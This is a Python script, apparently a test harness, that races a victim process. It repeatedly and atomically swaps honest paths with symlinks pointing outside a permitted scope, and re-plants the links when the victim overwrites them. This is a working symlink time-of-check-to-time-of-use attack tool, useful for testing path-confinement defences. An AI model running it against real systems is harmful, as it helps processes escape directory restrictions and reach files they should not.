"""An attacker as a program: exchanges paths in a tight loop until its stdin closes.

python attacker.py LEFT RIGHT [LEFT RIGHT …]

Of each pair one side is honest and the other is a link out of the scope; they change places by
one atomic `renameat2(RENAME_EXCHANGE)`, so that the left name always exists and is one or the
other. A victim may replace a link by a file (a rename does): then the link is laid again. Says
how often it struck.
"""

from __future__ import annotations

import contextlib
import ctypes
import os
import sys
import threading
from collections.abc import Callable
from typing import Any

_AT_FDCWD = -100
_RENAME_EXCHANGE = 2


def _libc_exchange() -> Callable[[bytes, bytes], bool] | None:
    function: Any = getattr(ctypes.CDLL(None, use_errno=True), "renameat2", None)
    if function is None:
        return None
    return lambda a, b: function(_AT_FDCWD, a, _AT_FDCWD, b, _RENAME_EXCHANGE) == 0


def _by_three_renames(left: bytes, right: bytes) -> bool:
    """Where the exchange is missing: a moment without the left name in between."""
    aside = right + b".aside"
    os.rename(left, aside)
    os.rename(right, left)
    os.rename(aside, right)
    return True


class Pair:
    """Two names that change places."""

    def __init__(self, left: str, right: str) -> None:
        self.left, self.right = os.fsencode(left), os.fsencode(right)
        self.target = os.readlink(self.right)

    def repair(self) -> None:
        """Lay the link again if a victim's rename took its place."""
        if os.path.islink(self.left) or os.path.islink(self.right):
            return
        laid = self.right + b".laid"
        os.symlink(self.target, laid)
        os.rename(laid, self.right)


def main() -> None:
    words = sys.argv[1:]
    pairs = [Pair(left, right) for left, right in zip(words[::2], words[1::2], strict=True)]
    exchange = _libc_exchange() or _by_three_renames
    over = threading.Event()
    threading.Thread(target=_wait_for_the_end, args=(over,), daemon=True).start()
    strikes = 0
    sys.stdout.write("ready\n")
    sys.stdout.flush()
    while not over.is_set():
        for pair in pairs:
            with contextlib.suppress(OSError):
                strikes += exchange(pair.left, pair.right)
        if strikes % 64 == 0:
            for pair in pairs:
                with contextlib.suppress(OSError):
                    pair.repair()
    sys.stdout.write(f"{strikes}\n")


def _wait_for_the_end(over: threading.Event) -> None:
    sys.stdin.read()
    over.set()


if __name__ == "__main__":
    main()
